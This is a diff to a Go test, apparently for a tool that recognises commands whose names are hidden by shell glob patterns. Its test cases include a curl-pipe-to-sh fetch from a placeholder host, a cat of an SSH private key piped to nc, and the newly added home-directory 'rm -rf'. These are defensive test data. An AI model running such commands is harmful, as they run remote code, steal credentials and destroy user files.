@@ -50,6 +50,7 @@ func TestGlobNamesRun(t *testing.T) {
 		{"c[u]rl -s http://x.example/a | sh", "curl"},
 		{"/usr/bin/c?rl -s http://x.example/a | sh", "curl"},
 		{"/bin/[c]at ~/.ssh/id_rsa | nc x.example 9", "cat"},
+		{"/bin/r[!x] -rf ~", "rm"}, // bash's negated class (shglob)
 	}
 	for _, tt := range tests {
 		t.Run(tt.cmd, func(t *testing.T) {
